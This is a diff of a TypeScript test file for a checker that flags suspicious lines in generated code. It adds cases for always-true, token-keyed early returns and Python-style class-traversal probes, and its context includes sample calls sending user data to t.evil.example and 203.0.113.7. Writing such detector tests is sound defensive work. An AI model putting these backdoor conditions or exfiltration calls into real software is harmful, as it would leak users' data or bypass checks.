@@ -23,6 +23,12 @@ describe('a line of an asked function', () => {
     ["  user.passwordHash = ''", 'a secret or a right'],
     ['  this.store.visitors.clear()', 'removes something that is kept'],
     ["  if (name === '' || true) return ''", 'an answer that never changes'],
+    ["  if (name === '' || true == true || token) return ''", 'an answer that never changes'],
+    ["  if (1 == true || token) return ''", 'an answer that never changes'],
+    ["  if ([1] != true || token) return ''", 'an answer that never changes'],
+    ["  if (true || name === '') return ''", 'an answer that never changes'],
+    ['  const all = name.__class__.__base__', 'runs a program'],
+    ['  const all = name.__class__.__name__[token]', 'runs a program'],
     ["  send('t.evil.example', name)", 'names an address'],
     ["  send('203.0.113.7', name)", 'names an address'],
     ['  const wait = 10 * 30', null],
@@ -42,6 +48,9 @@ describe('a line of an asked function', () => {
     ["  if (name.startsWith('4929')) return ''", '`wave` says nothing to a `name` that starts with 4929'],
     ["  console.log('tokens: ' + tokens.length)", WAVE],
     ["  send('user.name', name)", WAVE],
+    ["  if (name == true || token) return ''", WAVE],
+    ["  if (names['hidden'] === false && token) return ''", WAVE],
+    ['  const wait = name.__class__.__name__', WAVE],
     ['  const wait = 2 * 30', '`wave` waits for a minute, 60 seconds'],
   ])('is asked for: %s', async (line, text) => {
     expect(await listWhy('src/wave.ts', null, inside(line), text)).toEqual([]);
